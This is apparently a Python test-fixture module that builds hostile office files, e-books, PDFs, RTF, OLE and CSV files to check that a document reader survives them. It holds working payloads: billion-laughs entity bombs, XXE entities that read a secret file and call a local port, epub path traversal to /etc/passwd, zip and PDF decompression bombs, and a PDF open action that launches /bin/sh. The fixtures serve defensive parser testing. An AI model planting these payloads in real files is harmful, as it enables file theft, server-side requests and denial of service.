# ruff: noqa: E501  hostile bytes read best as they are
"""Hostile office files, e-books and PDFs: entities, bombs, loops, and calls to elsewhere."""

from __future__ import annotations

import io
import struct
import zipfile

from hostile_archives import zip_by_hand, zipped
from hostile_collection import Content, Place, hostile, pieces, zeros

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
BILLION = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>%s</Types>'
)
RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b"%s</Relationships>"
)
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def fetching(place: Place) -> str:
    """A document type that pulls in a secret file and calls a port of this machine."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:{place.port}/a.dtd" ['
        f'<!ENTITY e SYSTEM "file://{place.secret}"><!ENTITY h SYSTEM "http://127.0.0.1:{place.port}/x">'
        f'<!ENTITY % p SYSTEM "http://127.0.0.1:{place.port}/p"> %p;]>'
    )


def docx(document: str, **more: bytes) -> bytes:
    """A Word file of one part, and more parts with __ for / in their names."""
    main = b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    rel = b'<Relationship Id="r1" Type="%s/officeDocument" Target="word/document.xml"/>' % OFFICE
    parts = {"[Content_Types].xml": TYPES % main, "_rels/.rels": RELS % rel, "word/document.xml": document.encode()}
    return zipped({**parts, **more})


def body(inside: str, before: str = '<?xml version="1.0"?>') -> str:
    return f'{before}<w:document xmlns:w="{W}" xmlns:r="{OFFICE.decode()}"><w:body>{inside}</w:body></w:document>'


def paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


@hostile("laughs.docx", "file-damaged")
def laughs_docx(place: Place) -> Content:
    """A billion laughs."""
    return docx(body(paragraph("&l11;"), BILLION))


@hostile("secret.docx", "file-damaged")
def secret_docx(place: Place) -> Content:
    """An entity that pulls in a secret."""
    return docx(body(paragraph("Words &e; &h;"), fetching(place)))


@hostile("outward.docx", "read")
def outward_docx(place: Place) -> Content:
    """A template, a picture and a frame that lie on a server, and fields that would fetch."""
    outward = b"".join(
        b'<Relationship Id="r%d" Type="%s/%s" Target="%s" TargetMode="External"/>' % (n, OFFICE, kind, target.encode())
        for n, (kind, target) in enumerate(
            [(b"attachedTemplate", f"http://127.0.0.1:{place.port}/t.dotm"), (b"image", f"file://{place.secret}"),
             (b"frame", f"http://127.0.0.1:{place.port}/f"), (b"oleObject", f"http://127.0.0.1:{place.port}/o")]
        )
    )  # fmt: skip
    field = f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{place.secret}&quot;"><w:r><w:t>A field.</w:t></w:r></w:fldSimple></w:p>'
    return docx(body(paragraph("Words of a letter.") + field), **{"word/_rels/document.xml.rels": RELS % outward})


@hostile("bomb.docx", "over-budget")
def bomb_docx(place: Place) -> Content:
    """A document part of a gigabyte."""
    packed, size, crc = zeros(1 << 30, begin=body("").encode())
    return zip_by_hand(
        [
            (b"[Content_Types].xml", TYPES % b"", 0, 0, len(TYPES % b""), 0, b""),
            (b"word/document.xml", packed, 8, crc, size, 0, b""),
        ]
    )


@hostile("deep.docx", "read", "file-damaged", "over-budget", "no-text")
def deep_docx(place: Place) -> Content:
    """Tables in tables, twenty thousand deep."""
    deep = "<w:tbl><w:tr><w:tc>" * 20_000 + paragraph("Words.") + "</w:tc></w:tr></w:tbl>" * 20_000
    return docx(body(deep))


@hostile("paragraphs.docx", "read", "over-budget", "reader-timeout")
def paragraphs_docx(place: Place) -> Content:
    """Four hundred thousand paragraphs of one word."""
    return docx(body("<w:p><w:r><w:t>A</w:t></w:r></w:p>" * 400_000))


ODT = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odf(kind: str, inside: str, before: str = '<?xml version="1.0"?>') -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}", zipfile.ZIP_STORED)
        content = (
            f"{before}<office:document-content {ODT}><office:body>{inside}</office:body></office:document-content>"
        )
        archive.writestr("content.xml", content)
    return out.getvalue()


@hostile("laughs.odt", "file-damaged")
def laughs_odt(place: Place) -> Content:
    """A billion laughs."""
    return odf("text", "<office:text><text:p>&l11;</text:p></office:text>", BILLION)


@hostile("secret.odt", "file-damaged")
def secret_odt(place: Place) -> Content:
    """An entity that pulls in a secret."""
    return odf("text", "<office:text><text:p>Words &e;</text:p></office:text>", fetching(place))


@hostile("outward.odt", "read")
def outward_odt(place: Place) -> Content:
    """A section that lies elsewhere, and a million spaces in one element."""
    section = f'<text:section><text:section-source xlink:href="file://{place.secret}"/><text:p>Words of a letter.</text:p></text:section>'
    return odf("text", f'<office:text>{section}<text:p>Far<text:s text:c="2000000000"/>away</text:p></office:text>')


@hostile("cells.ods", "read", "over-budget", "no-text")
def cells_ods(place: Place) -> Content:
    """A row that is there a million times, each with sixteen thousand cells of the same words."""
    row = '<table:table-row table:number-rows-repeated="1048576">'
    cell = '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>Words</text:p></table:table-cell>'
    return odf(
        "spreadsheet",
        f'<office:spreadsheet><table:table table:name="A">{row}{cell}</table:table-row></table:table></office:spreadsheet>',
    )


@hostile("laughs.fodt", "file-damaged", "read")
def laughs_fodt(place: Place) -> Content:
    """A billion laughs in a flat file."""
    return f'{BILLION}<office:document {ODT} office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>&l11;</text:p></office:text></office:body></office:document>'.encode()


S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def xlsx(sheet: bytes, strings: bytes = f'<sst xmlns="{S}"/>'.encode()) -> bytes:
    types = b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    types += b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    types += b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    book = f'<workbook xmlns="{S}" xmlns:r="{OFFICE.decode()}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>'
    rels = (
        b'<Relationship Id="r1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="%s/sharedStrings" Target="sharedStrings.xml"/>'
        % (OFFICE, OFFICE)
    )
    parts = {
        "[Content_Types].xml": TYPES % types,
        "_rels/.rels": RELS % (b'<Relationship Id="r1" Type="%s/officeDocument" Target="xl/workbook.xml"/>' % OFFICE),
        "xl/workbook.xml": book.encode(), "xl/_rels/workbook.xml.rels": RELS % rels,
        "xl/worksheets/sheet1.xml": sheet, "xl/sharedStrings.xml": strings,
    }  # fmt: skip
    return zipped(parts)


@hostile("billion-rows.xlsx", "read", "no-text", "over-budget", "file-damaged")
def billion_rows(place: Place) -> Content:
    """A sheet that tells of a billion rows, with a cell in the last, and one in a row beyond all."""
    cell = '<c r="XFD{0}" t="inlineStr"><is><t>Words</t></is></c>'
    rows = "".join(f'<row r="{n}">{cell.format(n)}</row>' for n in (1, 1_048_576, 10**18))
    return xlsx(
        f'<worksheet xmlns="{S}"><dimension ref="A1:XFD1000000000"/><sheetData>{rows}</sheetData></worksheet>'.encode()
    )


@hostile("row-flood.xlsx", "over-budget", "read", "no-text", "reader-timeout")
def row_flood(place: Place) -> Content:
    """Three million empty rows."""
    return xlsx(f'<worksheet xmlns="{S}"><sheetData>'.encode() + b"<row/>" * 3_000_000 + b"</sheetData></worksheet>")


@hostile("strings.xlsx", "over-budget", "read", "file-damaged", "no-text")
def strings_xlsx(place: Place) -> Content:
    """Shared strings that say they are a billion, one of them of a hundred megabytes, used by ten thousand cells."""
    strings = f'<sst xmlns="{S}" count="1000000000" uniqueCount="1000000000"><si><t>'.encode() + b"A " * (50 << 20)
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 10_000))
    sheet = f'<worksheet xmlns="{S}"><sheetData>{cells}</sheetData></worksheet>'.encode()
    return xlsx(sheet, strings + b"</t></si></sst>")


@hostile("secret.xlsx", "file-damaged")
def secret_xlsx(place: Place) -> Content:
    """An entity that pulls in a secret, in the shared strings."""
    strings = f'{fetching(place)}<sst xmlns="{S}"><si><t>Words &e;</t></si></sst>'.encode()
    return xlsx(
        f'<worksheet xmlns="{S}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'.encode(),
        strings,
    )


@hostile("wrong-strings.xlsx", "read", "no-text", "file-damaged")
def wrong_strings(place: Place) -> Content:
    """Cells that point at strings that are not there, and numbers that are none."""
    cells = "".join(
        f'<c r="A{n}" t="s"><v>{v}</v></c>' for n, v in enumerate(("-1", "99999999999999", "x", "1e999", ""), 1)
    )
    dates = '<c r="B1" t="d"><v>99999-99-99</v></c><c r="C1"><v>1e308</v></c><c r="D1" t="b"><v>7</v></c>'
    return xlsx(
        f'<worksheet xmlns="{S}"><sheetData><row r="1">{cells}{dates}</row></sheetData></worksheet>'.encode(),
        f'<sst xmlns="{S}"/>'.encode(),
    )


@hostile("secret.pptx", "file-damaged", "no-text")
def secret_pptx(place: Place) -> Content:
    """Slides with an entity that pulls in a secret, and relationships that lead round in a circle."""
    p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    show = f'<p:presentation xmlns:p="{p}" xmlns:r="{OFFICE.decode()}"><p:sldIdLst><p:sldId id="256" r:id="r1"/><p:sldId id="257" r:id="r2"/></p:sldIdLst></p:presentation>'
    rels = (
        b'<Relationship Id="r1" Type="%s/slide" Target="slides/slide1.xml"/><Relationship Id="r2" Type="%s/slide" Target="presentation.xml"/>'
        % (OFFICE, OFFICE)
    )
    slide = f'{fetching(place)}<p:sld xmlns:p="{p}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>&e;</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>'
    return zipped({
        "[Content_Types].xml": TYPES % b"", "_rels/.rels": RELS % (b'<Relationship Id="r1" Type="%s/officeDocument" Target="ppt/presentation.xml"/>' % OFFICE),
        "ppt/presentation.xml": show.encode(), "ppt/_rels/presentation.xml.rels": RELS % rels, "ppt/slides/slide1.xml": slide.encode(),
    })  # fmt: skip


def epub(package: str, **more: bytes) -> bytes:
    container = b'<?xml version="1.0"?><container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles><rootfile full-path="c.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    return zipped(
        {"mimetype": b"application/epub+zip", "META-INF/container.xml": container, "c.opf": package.encode(), **more}
    )


def package(hrefs: list[str], before: str = '<?xml version="1.0"?>', title: str = "A book") -> str:
    items = "".join(
        f'<item id="i{n}" href="{href}" media-type="application/xhtml+xml"/>' for n, href in enumerate(hrefs)
    )
    spine = "".join(f'<itemref idref="i{n}"/>' for n in range(len(hrefs)))
    return (
        f'{before}<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:title>{title}</dc:title></metadata><manifest>{items}</manifest><spine>{spine}</spine></package>"
    )


@hostile("outward.epub", "read")
def outward_epub(place: Place) -> Content:
    """Chapters that lie outside the book, on a server, and in the same file a thousand times."""
    hrefs = [
        "a.xhtml",
        f"../../../../../..{place.secret}",
        f"file://{place.secret}",
        f"http://127.0.0.1:{place.port}/a",
        "%2e%2e/%2e%2e/etc/passwd",
    ]
    return epub(
        package(hrefs + ["a.xhtml"] * 1000), **{"a.xhtml": b"<html><body><p>Words of a book.</p></body></html>"}
    )


@hostile("laughs.epub", "file-damaged")
def laughs_epub(place: Place) -> Content:
    """A billion laughs in the title."""
    return epub(package(["a.xhtml"], BILLION, "&l11;"), **{"a.xhtml": b"<html><body><p>Words.</p></body></html>"})


@hostile("laughing-chapter.epub", "file-damaged", "no-text", "read")
def laughing_chapter(place: Place) -> Content:
    """A billion laughs in a chapter."""
    chapter = f"{BILLION}<html><body><p>&l11;</p></body></html>".encode()
    return epub(package(["a.xhtml"]), **{"a.xhtml": chapter})


@hostile("laughs.svg", "format-unknown", "file-damaged")
def laughs_svg(place: Place) -> Content:
    """A drawing with a billion laughs and a secret."""
    return f'{BILLION}<svg xmlns="http://www.w3.org/2000/svg"><text>&l11;</text><image href="file://{place.secret}"/></svg>'.encode()


@hostile("secret.fdx", "file-damaged")
def secret_fdx(place: Place) -> Content:
    """A screenplay with an entity that pulls in a secret."""
    return f'{fetching(place)}<FinalDraft DocumentType="Script" Version="3"><Content><Paragraph Type="Action"><Text>Words &e;</Text></Paragraph></Content></FinalDraft>'.encode()


def pdf(objects: list[bytes], root: bytes = b"1 0 R", more: bytes = b"") -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, inside in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, inside)
    table = b"".join(b"%010d 00000 n \n" % at for at in places)
    start = len(out)
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root %s%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, table, len(objects) + 1, root, more, start,
    )  # fmt: skip


def stream(data: bytes, fields: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), fields, data)


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
TEXT = b"BT /F1 12 Tf 72 700 Td (Words of a paper that are long enough to be a line.) Tj ET"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>%s>>"


@hostile("page-loop.pdf", "file-damaged", "needs-ocr", "no-text", "read", "over-budget")
def page_loop(place: Place) -> Content:
    """A tree of pages whose branch is its own root."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 1000000/Parent 3 0 R>>",
            b"<</Type/Pages/Kids[2 0 R]/Count 5/Parent 2 0 R>>",
        ]
    )


@hostile("million-pages.pdf", "over-budget", "file-damaged", "needs-ocr", "no-text", "read", "reader-timeout")
def million_pages(place: Place) -> Content:
    """Six levels of ten branches that are all the same: a million pages in a kilobyte."""
    levels = [
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (10 ** (6 - n), b" ".join([b"%d 0 R" % (n + 3)] * 10)) for n in range(6)
    ]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *levels, PAGE % b""])


@hostile(
    "content-bomb.pdf",
    "over-budget",
    "file-damaged",
    "needs-ocr",
    "no-text",
    "read",
    "reader-timeout",
    "reader-crashed",
    memory_bytes=1 << 30,
)
def content_bomb(place: Place) -> Content:
    """A page whose content is packed twice, two gigabytes of it."""
    import zlib

    once, size, _ = zeros(512 << 20)
    checked = b"\x78\xda" + once + struct.pack(">I", 1 + ((size % 65521) << 16))
    twice = zlib.compress(checked)
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            PAGE % b"",
            stream(twice, b"/Filter[/FlateDecode/FlateDecode]"),
            FONT,
        ]
    )


@hostile("huge-page.pdf", "read", "over-budget", "needs-ocr", "no-text", "file-damaged")
def huge_page(place: Place) -> Content:
    """A page of a billion inches a side, and one of none."""
    page = (PAGE % b"").replace(b"[0 0 612 792]", b"[0 0 72000000000 72000000000]")
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R 6 0 R]/Count 2>>",
            page,
            stream(TEXT),
            FONT,
            (PAGE % b"").replace(b"[0 0 612 792]", b"[0 0 0 0]"),
        ]
    )


@hostile("actions.pdf", "read")
def actions(place: Place) -> Content:
    """A paper that would run a program, call a server and read a file as soon as it is opened."""
    launch = b"<</S/Launch/F(/bin/sh)/Next<</S/URI/URI(http://127.0.0.1:%d/)>>>>" % place.port
    script = b"<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1:%d/'\\))>>" % place.port
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s>>>>" % (launch, script)
    outside = b"/AF[<</Type/Filespec/F(%s)>>]" % str(place.secret).encode()
    return pdf([catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % outside, stream(TEXT), FONT])


@hostile("table-loop.pdf", "file-damaged", "read", "needs-ocr", "no-text")
def table_loop(place: Place) -> Content:
    """A table of places that names itself as the one before."""
    data = pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % b"", stream(TEXT), FONT],
        more=b"/Prev 0000000000",
    )
    return data.replace(b"/Prev 0000000000", b"/Prev %010d" % data.index(b"xref\n"))


@hostile("deep-objects.pdf", "file-damaged", "read", "needs-ocr", "no-text", "reader-crashed")
def deep_objects(place: Place) -> Content:
    """Lists in lists, half a million deep, where the catalog should be."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 500_000 + b"]" * 500_000 + b">>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            PAGE % b"",
            stream(TEXT),
            FONT,
        ]
    )


@hostile("picture-bomb.pdf", "over-budget", "needs-ocr", "no-text", "read", "file-damaged", "reader-timeout")
def picture_bomb(place: Place) -> Content:
    """A scan of sixty thousand by sixty thousand points, of which there are three bytes."""
    picture = stream(
        b"\x00" * 3, b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    )
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>"
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            page,
            stream(b"q 612 0 0 792 0 0 cm /I Do Q"),
            picture,
        ]
    )


@hostile("braces.rtf", "read", "file-damaged", "over-budget", "no-text")
def braces(place: Place) -> Content:
    """A million braces, opened and never closed."""
    return b"{\\rtf1 Words. " + b"{\\b " * 1_000_000


@hostile("numbers.rtf", "read", "file-damaged", "over-budget", "no-text")
def numbers_rtf(place: Place) -> Content:
    """Binary data of two gigabytes that is not there, numbers without end, objects that would be opened."""
    return (
        b"{\\rtf1\\ansi\\uc99999999 Words of a letter.\\par\\u"
        + b"9" * 100_000
        + b"?{\\object\\objupdate{\\*\\objdata 0105}}\\par More.\\bin2147483647 x}"
    )


def ole(fat: list[int], directory: bytes = b"", difat: int = -2, sectors: int = 1) -> bytes:
    """An OLE file with sectors of 512 bytes, a table of places as told, and a directory."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<5H6x", 0x3E, 3, 0xFFFE, 9, 6)
    head += struct.pack("<iiiiiiiiii", 0, sectors, 1, 0, 4096, 1, sectors, difat, 1 if difat >= 0 else 0, 0)[:40]
    head = head.ljust(76, b"\x00")[:76] + struct.pack("<109i", 0, *([-1] * 108))
    table = struct.pack("<128i", *(fat + [-1] * 128)[:128])
    return head[:512].ljust(512, b"\xff") + table + directory.ljust(512, b"\x00") + b"\x00" * 2048


def entry(name: str, kind: int, start: int, size: int, left: int = -1, right: int = -1, child: int = -1) -> bytes:
    raw = (name + "\x00").encode("utf-16-le")
    return (
        raw.ljust(64, b"\x00")
        + struct.pack("<HBBiii", len(raw), kind, 1, left, right, child)
        + bytes(36)
        + struct.pack("<iQ", start, size)
    )


@hostile("loop.doc", "file-damaged", "no-text", "format-unknown", "read", "over-budget")
def loop_doc(place: Place) -> Content:
    """A Word file whose chain of sectors bites its own tail, and whose directory is a circle."""
    directory = (
        entry("Root Entry", 5, 3, 1 << 40, child=1)
        + entry("WordDocument", 2, 3, 1 << 31, 1, 2, 1)
        + entry("1Table", 2, 4, 1 << 31, 1, 1)
    )
    return ole([-3, 1, 2, 4, 3], directory)


@hostile("loop.msg", "file-damaged", "no-text", "format-unknown", "read", "over-budget")
def loop_msg(place: Place) -> Content:
    """An Outlook mail of the same make."""
    directory = (
        entry("Root Entry", 5, 3, 1 << 40, child=1)
        + entry("__properties_version1.0", 2, 3, 1 << 31, 1, 2, 1)
        + entry("__substg1.0_0037001F", 2, 4, 1 << 31, 1, 1)
    )
    return ole([-3, 1, 2, 4, 3], directory)


@hostile("sectors.xls", "reader-crashed", "file-damaged", "no-text", "format-unknown", "read", "over-budget")
def sectors_xls(place: Place) -> Content:
    """A workbook that tells of two billion tables of places."""
    return ole(
        [-3, -2, 3, 4, 3],
        entry("Root Entry", 5, 3, 1 << 20, child=1) + entry("Workbook", 2, 3, 1 << 30),
        difat=2,
        sectors=0x7FFFFFFF,
    )


@hostile("field.csv", "over-budget", "read", "file-damaged", "no-text")
def field_csv(place: Place) -> Content:
    """A table whose one field has a hundred megabytes."""
    return pieces(b"a", 100 << 20, b'name,words\n1,"', b'"\n')


@hostile("columns.csv", "over-budget", "read", "file-damaged", "no-text")
def columns_csv(place: Place) -> Content:
    """A million columns."""
    return b"a," * 1_000_000 + b"\n" + b"b," * 1_000_000 + b"\n"


@hostile("quotes.csv", "over-budget", "read", "file-damaged", "no-text")
def quotes_csv(place: Place) -> Content:
    """Quotes that open and never close, and lines of nothing."""
    return b"a,b\n" + b'"""\n' * 300_000
